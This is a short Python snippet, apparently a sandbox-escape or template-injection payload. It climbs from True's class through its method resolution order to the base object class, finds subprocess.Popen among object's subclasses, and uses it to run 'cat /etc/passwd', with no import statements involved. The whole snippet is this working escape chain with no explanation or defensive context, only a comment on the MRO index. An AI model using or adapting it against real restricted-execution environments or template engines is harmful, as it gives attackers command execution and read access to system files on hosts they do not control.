# bool -> int -> object: index 2 of True's MRO.
root = True.__class__.__mro__[2]
subs = root.__subclasses__()
popen = next(c for c in subs if c.__name__ == "Popen")
popen(["cat", "/etc/passwd"])
